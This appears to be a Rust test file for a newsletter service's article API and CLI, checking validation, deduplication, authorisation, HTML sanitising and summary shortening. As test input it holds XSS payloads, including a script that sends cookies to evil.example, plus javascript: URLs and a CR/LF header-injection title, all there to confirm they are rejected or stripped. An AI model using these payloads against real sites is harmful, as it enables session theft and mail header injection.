//! `POST /api/articles` and `newsletter add-article`: articles enter checked and cleaned,
//! a known url is not added twice, and bad input changes nothing.

use newsletter::db::articles::{self, Article};
use newsletter::domain::article::SUMMARY_CHARS;
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::support::{ADMIN_TOKEN, TestApp, Workspace, spawn_app};

/// A seed headline: curly quotes, an accent and an en dash, as the news site writes them.
const SEED_TITLE: &str = "António Guterres’s “Vital Role” – UN Ahead of SCO Summit in Astana";
const SEED_URL: &str = "https://astanatimes.example/2026/06/kazakhstan-stresses-uns-vital-role/";

/// A long paragraph from the seed article, longer than a summary may be.
const SEED_PARAGRAPH: &str = "He highlighted key achievements, including the adoption of the \
    first Central Asian resolution in the Human Rights Council at the initiative of Kazakhstan \
    called Ensuring Quality Education for Peace and Tolerance for Every Child. He also noted the \
    UN General Assembly’s declaration of 2026 as the International Year of Volunteers for \
    Sustainable Development, and the election of Madina Dzharbusynova to the UN Committee on \
    the Elimination of Discrimination against Women for 2025-2028.";

/// The articles waiting for the next digest, straight from the database.
pub(crate) async fn waiting_articles(app: &TestApp) -> Vec<Article> {
    app.state
        .db
        .run(articles::waiting)
        .await
        .map(|mut waiting| {
            // In the order added: these tests are about what was stored (the digest's
            // own order is tested on its own).
            waiting.sort_by_key(|a| a.id);
            waiting
        })
        .expect("the waiting articles")
}

/// `POST /api/articles` with the admin token and `body` as JSON.
async fn post_article(app: &TestApp, body: &Value) -> reqwest::Response {
    app.client
        .post(app.url("/api/articles"))
        .bearer_auth(ADMIN_TOKEN)
        .json(body)
        .send()
        .await
        .expect("POST /api/articles")
}

/// `POST /api/articles` with the admin token and a raw body of the given content type.
async fn post_raw(
    app: &TestApp,
    content_type: &str,
    body: impl Into<Vec<u8>>,
) -> reqwest::Response {
    app.client
        .post(app.url("/api/articles"))
        .bearer_auth(ADMIN_TOKEN)
        .header("Content-Type", content_type)
        .body(body.into())
        .send()
        .await
        .expect("POST /api/articles")
}

/// Posts `body`, expects 201 and returns the new id.
async fn create(app: &TestApp, body: &Value) -> i64 {
    let response = post_article(app, body).await;
    assert_eq!(response.status(), StatusCode::CREATED, "{body}");
    let answer: Value = response.json().await.expect("a JSON body");
    answer["id"].as_i64().expect("an `id` number")
}

/// The one waiting article with `url`.
async fn stored(app: &TestApp, url: &str) -> Article {
    let mut found: Vec<Article> = waiting_articles(app)
        .await
        .into_iter()
        .filter(|a| a.url == url)
        .collect();
    assert_eq!(found.len(), 1, "exactly one article with url {url}");
    found.remove(0)
}

#[tokio::test]
async fn a_new_article_gets_201_with_its_id_and_is_stored_as_written() {
    let app = spawn_app().await;
    let response = post_article(
        &app,
        &json!({
            "title": SEED_TITLE,
            "url": SEED_URL,
            "summary": "Kazakhstan’s First Deputy Foreign Minister visited the UN Plaza in Almaty.",
            "author": "Aigerim Seisembayeva",
            "published_at": "2026-06-19T21:40:12+05:00",
        }),
    )
    .await;

    assert_eq!(response.status(), StatusCode::CREATED);
    let answer: Value = response.json().await.expect("a JSON body");
    let id = answer["id"].as_i64().expect("an `id` number");
    let article = stored(&app, SEED_URL).await;
    assert_eq!(article.id, id);
    assert_eq!(article.title, SEED_TITLE);
    assert_eq!(
        article.summary.as_deref(),
        Some("Kazakhstan’s First Deputy Foreign Minister visited the UN Plaza in Almaty.")
    );
    assert_eq!(article.author.as_deref(), Some("Aigerim Seisembayeva"));
    assert_eq!(
        article.published_at.map(|t| t.to_string()).as_deref(),
        Some("2026-06-19 16:40:12"),
        "the time is stored in UTC"
    );
    assert_eq!(article.digest_id, None, "it waits for the next digest");
}

#[tokio::test]
async fn the_same_url_again_gets_200_with_the_same_id_and_adds_nothing() {
    let app = spawn_app().await;
    let id = create(&app, &json!({ "title": SEED_TITLE, "url": SEED_URL })).await;

    let again = post_article(
        &app,
        &json!({ "title": "A different headline for the same story", "url": SEED_URL }),
    )
    .await;

    assert_eq!(again.status(), StatusCode::OK);
    let answer: Value = again.json().await.expect("a JSON body");
    assert_eq!(answer["id"].as_i64(), Some(id));
    let waiting = waiting_articles(&app).await;
    assert_eq!(waiting.len(), 1, "nothing was added");
    assert_eq!(waiting[0].title, SEED_TITLE, "the first version is kept");
}

#[tokio::test]
async fn each_bad_field_gets_400_naming_it_and_changes_nothing() {
    let app = spawn_app().await;
    create(&app, &json!({ "title": SEED_TITLE, "url": SEED_URL })).await;
    let cases: &[(&str, Value, &[&str])] = &[
        (
            "missing title",
            json!({ "url": "https://astanatimes.example/a" }),
            &["title"],
        ),
        ("missing url", json!({ "title": "A headline" }), &["url"]),
        (
            "blank title and url",
            json!({ "title": "   ", "url": "" }),
            &["title", "url"],
        ),
        (
            "javascript: url",
            json!({ "title": "A headline", "url": "javascript:alert(document.cookie)" }),
            &["url"],
        ),
        (
            "title with CR/LF",
            json!({ "title": "A headline\r\nBcc: victim@example.com", "url": "https://astanatimes.example/b" }),
            &["title"],
        ),
        (
            "bad published_at",
            json!({ "title": "A headline", "url": "https://astanatimes.example/c", "published_at": "yesterday" }),
            &["published_at"],
        ),
        (
            "everything wrong at once",
            json!({ "title": "One\ntwo", "url": "ftp://astanatimes.example/d", "published_at": "19/06/2026" }),
            &["published_at", "title", "url"],
        ),
    ];

    for (case, body, fields) in cases {
        let response = post_article(&app, body).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{case}");
        let answer: Value = response.json().await.expect("a JSON body");
        assert!(answer["error"].is_string(), "{case}: {answer}");
        let named: Vec<&str> = answer["fields"]
            .as_object()
            .unwrap_or_else(|| panic!("{case}: a `fields` object in {answer}"))
            .keys()
            .map(String::as_str)
            .collect();
        assert_eq!(&named, fields, "{case}: {answer}");
        for field in *fields {
            assert!(
                answer["fields"][field]
                    .as_str()
                    .is_some_and(|why| !why.is_empty()),
                "{case}: `{field}` says what is wrong: {answer}"
            );
        }
    }
    assert_eq!(waiting_articles(&app).await.len(), 1, "nothing was added");
}

#[tokio::test]
async fn bodies_that_are_not_an_article_object_get_400_or_415_with_an_error() {
    let app = spawn_app().await;
    let cases: &[(&str, &str, &str)] = &[
        (
            "a number for the title",
            "application/json",
            r#"{"title": 5, "url": "https://astanatimes.example/a"}"#,
        ),
        (
            "a list for the url",
            "application/json",
            r#"{"title": "T", "url": ["https://astanatimes.example/a"]}"#,
        ),
        (
            "truncated JSON",
            "application/json",
            r#"{"title": "T", "url": "https://astanatimes.exa"#,
        ),
        (
            "an array",
            "application/json",
            r#"[{"title": "T", "url": "https://astanatimes.example/a"}]"#,
        ),
        ("an empty body", "application/json", ""),
        (
            "a form",
            "application/x-www-form-urlencoded",
            "title=T&url=https%3A%2F%2Fastanatimes.example%2Fa",
        ),
        (
            "plain text",
            "text/plain",
            r#"{"title": "T", "url": "https://astanatimes.example/a"}"#,
        ),
    ];

    for (case, content_type, body) in cases {
        let response = post_raw(&app, content_type, *body).await;
        let status = response.status();
        assert!(
            status == StatusCode::BAD_REQUEST || status == StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "{case}: {status}"
        );
        let answer: Value = response
            .json()
            .await
            .unwrap_or_else(|e| panic!("{case}: a JSON body ({e})"));
        assert!(
            answer["error"].as_str().is_some_and(|e| !e.is_empty()),
            "{case}: {answer}"
        );
    }
    assert!(
        waiting_articles(&app).await.is_empty(),
        "nothing was stored"
    );
}

#[tokio::test]
async fn a_two_mebibyte_body_gets_413_and_stores_nothing() {
    let app = spawn_app().await;
    let body = serde_json::to_vec(&json!({
        "title": "A huge article",
        "url": "https://astanatimes.example/huge",
        "body": "x".repeat(2 * 1024 * 1024),
    }))
    .expect("JSON");

    let response = post_raw(&app, "application/json", body).await;

    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
    let answer: Value = response.json().await.expect("a JSON body");
    assert!(answer["error"].is_string(), "{answer}");
    assert!(
        waiting_articles(&app).await.is_empty(),
        "nothing was stored"
    );
}

#[tokio::test]
async fn posting_an_article_without_the_admin_token_gets_401_and_stores_nothing() {
    let app = spawn_app().await;
    let body = json!({ "title": SEED_TITLE, "url": SEED_URL });

    let without = app
        .client
        .post(app.url("/api/articles"))
        .json(&body)
        .send()
        .await
        .expect("POST");
    let wrong = app
        .client
        .post(app.url("/api/articles"))
        .bearer_auth("not-the-admin-token-0123456789abcdef")
        .json(&body)
        .send()
        .await
        .expect("POST");

    assert_eq!(without.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    assert!(
        waiting_articles(&app).await.is_empty(),
        "nothing was stored"
    );
}

#[tokio::test]
async fn a_body_with_scripts_and_event_handlers_is_stored_sanitised() {
    let app = spawn_app().await;
    let url = "https://astanatimes.example/2026/06/sanitised";
    create(
        &app,
        &json!({
            "title": SEED_TITLE,
            "url": url,
            "body": r#"<p onclick="steal()">ASTANA – <b>Kazakhstan’s</b> minister<script>fetch('https://evil.example/?c='+document.cookie)</script> spoke. <a href="javascript:alert(1)">More</a> <img src="x" onerror="alert(2)"><iframe src="https://evil.example/"></iframe></p>"#,
        }),
    )
    .await;

    let article = stored(&app, url).await;
    let body = article.body.expect("a body");
    for hostile in [
        "<script",
        "fetch(",
        "onclick",
        "onerror",
        "javascript:",
        "<iframe",
    ] {
        assert!(!body.contains(hostile), "`{hostile}` survived in {body}");
    }
    assert!(
        body.contains("<b>Kazakhstan’s</b>") && body.contains("ASTANA – "),
        "harmless markup and text are kept: {body}"
    );
}

#[tokio::test]
async fn an_html_summary_is_stored_as_plain_text() {
    let app = spawn_app().await;
    let url = "https://astanatimes.example/2026/06/plain-summary";
    create(
        &app,
        &json!({
            "title": SEED_TITLE,
            "url": url,
            "summary": "<p>ASTANA – Kazakhstan’s <b>First Deputy</b> Foreign Minister &amp; the <a href=\"https://un.org\">UN</a><script>alert(1)</script></p>\n<p>Almaty, June 19.</p>",
        }),
    )
    .await;

    let article = stored(&app, url).await;
    assert_eq!(
        article.summary.as_deref(),
        Some("ASTANA – Kazakhstan’s First Deputy Foreign Minister & the UN Almaty, June 19.")
    );
}

#[tokio::test]
async fn a_long_summary_is_shortened_at_a_word_boundary_with_an_ellipsis() {
    let app = spawn_app().await;
    let url = "https://astanatimes.example/2026/06/long-summary";
    let full_text = SEED_PARAGRAPH
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    assert!(
        full_text.chars().count() > SUMMARY_CHARS,
        "the seed is long enough"
    );
    create(
        &app,
        &json!({ "title": SEED_TITLE, "url": url, "summary": format!("<p>{SEED_PARAGRAPH}</p>") }),
    )
    .await;

    let summary = stored(&app, url).await.summary.expect("a summary");
    assert!(
        summary.chars().count() <= SUMMARY_CHARS + 1,
        "{} characters: {summary}",
        summary.chars().count()
    );
    let kept = summary
        .strip_suffix('…')
        .unwrap_or_else(|| panic!("ends with an ellipsis: {summary}"));
    assert!(
        kept.chars().count() > SUMMARY_CHARS / 2,
        "most of the room is used: {summary}"
    );
    let rest = full_text
        .strip_prefix(kept)
        .unwrap_or_else(|| panic!("the summary is the start of the text: {summary}"));
    assert!(
        rest.starts_with(|c: char| c.is_whitespace() || ",;:–—-".contains(c)),
        "cut between words, not inside one: `{kept}` + `{rest}`"
    );
}

#[tokio::test]
async fn the_add_article_command_stores_an_article_and_says_so() {
    let workspace = Workspace::new();

    let run = workspace
        .newsletter(&[
            "add-article",
            "--title",
            SEED_TITLE,
            "--url",
            SEED_URL,
            "--summary",
            "Kazakhstan’s <b>First Deputy</b> Foreign Minister visited Almaty.",
        ])
        .await;

    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(run.stderr.contains("Added article"), "{}", run.stderr);
    let waiting = workspace.waiting_articles();
    assert_eq!(waiting.len(), 1);
    assert_eq!(waiting[0].title, SEED_TITLE);
    assert_eq!(waiting[0].url, SEED_URL);
    assert_eq!(
        waiting[0].summary.as_deref(),
        Some("Kazakhstan’s First Deputy Foreign Minister visited Almaty.")
    );
}

#[tokio::test]
async fn the_add_article_command_says_a_known_url_is_already_known_and_adds_nothing() {
    let workspace = Workspace::new();
    let args = ["add-article", "--title", SEED_TITLE, "--url", SEED_URL];
    assert_eq!(workspace.newsletter(&args).await.code, Some(0));

    let again = workspace
        .newsletter(&["add-article", "--title", "Another title", "--url", SEED_URL])
        .await;

    assert_eq!(again.code, Some(0), "{}", again.stderr);
    assert!(again.stderr.contains("already known"), "{}", again.stderr);
    let waiting = workspace.waiting_articles();
    assert_eq!(waiting.len(), 1, "nothing was added");
    assert_eq!(waiting[0].title, SEED_TITLE);
}

#[tokio::test]
async fn the_add_article_command_exits_2_naming_a_bad_url_and_stores_nothing() {
    let workspace = Workspace::new();

    let run = workspace
        .newsletter(&[
            "add-article",
            "--title",
            SEED_TITLE,
            "--url",
            "javascript:alert(1)",
        ])
        .await;

    assert_eq!(run.code, Some(2), "{}", run.stderr);
    assert!(run.stderr.contains("--url"), "{}", run.stderr);
    assert!(!run.stderr.contains("--title"), "{}", run.stderr);
    assert!(
        workspace.waiting_articles().is_empty(),
        "nothing was stored"
    );
}

#[tokio::test]
async fn a_digest_lists_the_newest_story_first_and_undated_ones_last() {
    let app = spawn_app().await;
    app.import_confirmed(&["reader@example.kz"]).await;
    let stories = [
        (
            "Tokayev Meets Uzbek Counterpart",
            Some("2026-11-27T09:00:00+05:00"),
        ),
        ("Editor’s Note on the Winter Schedule", None),
        (
            "Almaty Metro Extension Opens",
            Some("2026-11-29T08:30:00+05:00"),
        ),
        (
            "Astana Opera Season Begins",
            Some("2026-11-28T19:00:00+05:00"),
        ),
    ];
    for (n, (title, published_at)) in stories.into_iter().enumerate() {
        let response = post_article(
            &app,
            &json!({ "title": title, "url": format!("https://astanatimes.example/{n}"), "published_at": published_at }),
        )
        .await;
        assert_eq!(response.status(), 201, "{title}");
    }
    app.send_digest_and_wait().await;
    let mail = &app.smtp.messages_to("reader@example.kz")[0];
    let text = mail.text_body();
    let position = |title: &str| {
        text.find(title)
            .unwrap_or_else(|| panic!("{title} in {text}"))
    };
    let order = [
        "Almaty Metro Extension Opens",
        "Astana Opera Season Begins",
        "Tokayev Meets Uzbek Counterpart",
        "Editor’s Note on the Winter Schedule",
    ];
    assert!(
        order.windows(2).all(|w| position(w[0]) < position(w[1])),
        "newest first, the undated last: {text}"
    );
}
